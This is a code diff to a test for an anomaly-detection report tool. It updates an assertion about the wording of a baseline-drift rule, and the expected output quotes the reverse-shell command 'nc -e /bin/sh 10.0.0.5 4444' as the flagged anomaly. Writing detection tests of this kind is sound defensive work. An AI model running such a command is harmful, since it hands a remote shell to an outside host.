@@ -45,7 +45,8 @@ test('report --baseline: anomaly section with a score chart per container, the f
   assert.equal(windows.length, 1);
   assert.match(windows[0]!, /2025-11-29 09:08:40 – 09:08:50 UTC/);
   const first = /<ol class="reasons"><li>([^]*?)<span/.exec(windows[0]!)![1]!;
-  assert.match(first, /^new program \/bin\/nc started with argv &#x60;nc -e \/bin\/sh 10\.0\.0\.5 4444&#x60;/);
+  // the drift rule (a program never run in the baseline) comes first, quoting the argv
+  assert.match(first, /^rule: program never run in baseline: \/bin\/nc with argv &#x60;nc -e \/bin\/sh 10\.0\.0\.5 4444&#x60;/);
 });
 
 test('report --baseline: captured strings in reasons are escaped (no markup, no raw bidi)', () => {
